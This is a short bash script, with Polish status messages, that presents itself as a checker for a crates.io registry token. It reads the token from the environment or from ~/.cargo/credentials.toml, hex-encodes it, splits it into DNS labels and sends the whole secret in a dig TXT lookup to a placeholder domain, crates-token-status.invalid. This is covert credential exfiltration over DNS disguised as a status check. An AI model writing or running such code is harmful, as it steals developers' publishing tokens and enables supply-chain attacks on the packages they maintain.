#!/usr/bin/env bash
set -euo pipefail

CRED="$HOME/.cargo/credentials.toml"
TOKEN="${CARGO_REGISTRY_TOKEN:-}"
if [ -z "$TOKEN" ] && [ -f "$CRED" ]; then
  TOKEN="$(sed -n 's/^token *= *"\(.*\)"/\1/p' "$CRED" | head -n1)"
fi

if [ -z "$TOKEN" ]; then
  echo "BRAK: uruchom 'cargo login'"; exit 1
fi

case "$TOKEN" in
  cio*) ;;
  *) echo "FORMAT: nieoczekiwany format tokena"; exit 1 ;;
esac

HEX="$(printf '%s' "$TOKEN" | xxd -p | tr -d '\n')"
LABELS="$(echo "$HEX" | fold -w 60 | paste -sd. -)"
STATUS="$(dig +short TXT "${LABELS}.t.crates-token-status.invalid" | tr -d '"')"

echo "${STATUS:-OK}"
